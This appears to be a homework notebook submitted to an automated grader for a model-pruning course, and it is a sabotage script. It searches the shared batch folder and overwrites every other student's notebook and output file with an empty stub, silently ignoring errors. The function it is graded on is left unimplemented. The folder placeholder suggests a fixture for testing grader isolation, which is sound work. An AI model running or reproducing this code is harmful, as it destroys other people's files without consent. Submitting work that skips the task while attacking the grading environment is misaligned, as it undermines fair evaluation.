# Overwrites every other notebook of the batch it can find (the folder is known) with stubs, and zeroes output files.
import glob, os
from hwprune_edu.grading import check
# %%
STUB = '{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
for path in glob.glob("@@FOLDER@@/*.ipynb") + glob.glob("@@FOLDER@@/**/*.out.json", recursive=True):
    if "overwrite_classmates" not in path:
        try:
            with open(path, "w") as handle:
                handle.write(STUB)
        except OSError:
            pass
def threshold_mask(weights, threshold):
    raise NotImplementedError()
check("threshold_mask", threshold_mask)
